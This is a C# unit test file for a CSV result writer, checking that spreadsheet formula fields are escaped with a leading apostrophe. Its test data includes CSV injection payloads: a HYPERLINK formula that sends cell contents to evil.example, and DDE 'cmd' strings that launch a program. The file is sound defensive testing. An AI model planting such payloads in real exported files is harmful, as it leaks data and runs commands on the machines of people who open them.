using IpIqa.Core.Contracts;

namespace IpIqa.Core.Tests.Contracts;

/// <summary>
/// results.csv is opened by people in spreadsheets, and its text fields (prompts, blob names, job ids, error messages)
/// are the callers' text. A field that a spreadsheet would run as a formula is written with a leading apostrophe.
/// </summary>
public sealed class CsvResultWriterTests
{
    private static readonly ResultColumn<(string Text, double Number)>[] Columns =
    [
        ResultColumn<(string Text, double Number)>.OfText("prompt", r => r.Text),
        ResultColumn<(string Text, double Number)>.OfNumber("quality", r => r.Number),
    ];

    private static async Task<IReadOnlyList<string>> RoundTrip(string text, double number)
    {
        var output = new StringWriter();
        await using (var writer = new CsvResultWriter<(string, double)>(output, Columns))
        {
            await writer.WriteAsync((text, number), CancellationToken.None);
        }

        using var reader = new CsvRecordReader(new StringReader(output.ToString()));
        Assert.Equal(["prompt", "quality"], reader.Read());
        return reader.Read()!;
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task A_field_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(string text)
    {
        var row = await RoundTrip(text, 0.5);

        Assert.Equal("'" + text, row[0]);
    }

    [Theory]
    [InlineData("a red cup on a table")]
    [InlineData("'quoted' already")]
    [InlineData("a = b")]
    [InlineData("")]
    public async Task Other_text_and_negative_numbers_are_written_as_they_are(string text)
    {
        var row = await RoundTrip(text, -0.25);

        Assert.Equal([text, "-0.25"], row);
    }
}
